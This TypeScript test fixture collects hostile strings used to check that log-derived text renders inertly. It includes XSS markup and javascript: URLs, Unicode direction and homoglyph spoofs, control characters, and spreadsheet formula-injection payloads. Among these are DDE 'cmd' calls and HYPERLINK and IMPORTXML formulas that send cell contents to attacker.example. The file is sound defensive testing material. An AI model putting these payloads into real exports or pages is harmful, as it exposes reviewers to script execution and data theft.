// Strings an export author could plant in a log to attack whoever reviews it. For rendering and export tests:
// every UI test that shows log-derived text should show these as inert text.

export const RLO = '\u202E';   // right-to-left override
export const LRI = '\u2066';   // left-to-right isolate
export const PDI = '\u2069';   // pop directional isolate
export const ZWSP = '\u200B';  // zero-width space
export const ZWJ = '\u200D';   // zero-width joiner

export const HOSTILE_MARKUP = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '"><svg/onload=window.__pwned=1>',
  "'><iframe srcdoc='<script>parent.__pwned=1</script>'>",
  '<a href="javascript:window.__pwned=1">click</a>',
  '{@html "<b>x</b>"}{#if true}x{/if}',
  '</td></tr></table><h1 id="injected">injected</h1>',
  '<style>*{display:none}</style>',
] as const;

export const HOSTILE_URLS = [
  'javascript:window.__pwned=1',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
] as const;

export const HOSTILE_UNICODE = [
  `invoice${RLO}fdp.exe`,                // displays as "invoiceexe.pdf"
  `${LRI}admin${PDI}@contoso.com`,
  `ad${ZWSP}min@contoso.com`,            // looks like admin@contoso.com
  `ad${ZWJ}min`,
  'ɑdmin@contoso.com',                    // Latin alpha look-alike
  'e\u0301\u0301\u0301\u0301\u0301\u0301', // stacked combining marks
  '\uFEFFbom-prefixed',
  'line\u2028separator\u2029paragraph',
] as const;

export const HOSTILE_CONTROL = [
  'bell\u0007 and escape \u001b[31mred\u001b[0m',
  'nul\u0000byte',
  'carriage\rreturn',
  'new\nline',
  'c1\u0085\u009bcontrols',
  'del\u007f',
] as const;

/** Cells a spreadsheet would evaluate if exported naively. */
export const FORMULA_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '"=1+1',
  '\u200B=1+1',
  '\uFF1D1+1',                             // full-width equals sign
  '=IMPORTXML(CONCAT("http://attacker.example/?", A1), "//a")',
] as const;

/** About 1 MB of text: long values must be cut or wrapped, never freeze the page. */
export const HUGE = 'A'.repeat(1024 * 1024);

export const HOSTILE_STRINGS: readonly string[] = [...HOSTILE_MARKUP, ...HOSTILE_URLS, ...HOSTILE_UNICODE, ...HOSTILE_CONTROL, ...FORMULA_PAYLOADS];
